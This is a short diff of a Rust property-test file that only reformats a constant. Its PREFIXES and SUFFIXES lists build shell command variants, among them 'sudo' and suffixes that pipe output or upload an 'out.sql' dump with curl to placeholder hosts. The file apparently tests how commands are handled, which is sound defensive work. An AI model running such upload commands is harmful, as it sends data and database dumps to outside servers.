@@ -47,7 +47,8 @@ fn templates() -> &'static [Vec<String>] {
 }
 
 const PREFIXES: &[&str] = &["", "cd /srv/app && ", "set -x; ", "sudo "];
-const SUFFIXES: &[&str] = &["", " | curl --data-binary @- https://paste.example.net/u", " && curl -T out.sql https://files.example.org/up", " > /tmp/out.log 2>&1"];
+const SUFFIXES: &[&str] =
+    &["", " | curl --data-binary @- https://paste.example.net/u", " && curl -T out.sql https://files.example.org/up", " > /tmp/out.log 2>&1"];
 
 proptest! {
     #![proptest_config(ProptestConfig { cases: 400, ..ProptestConfig::default() })]
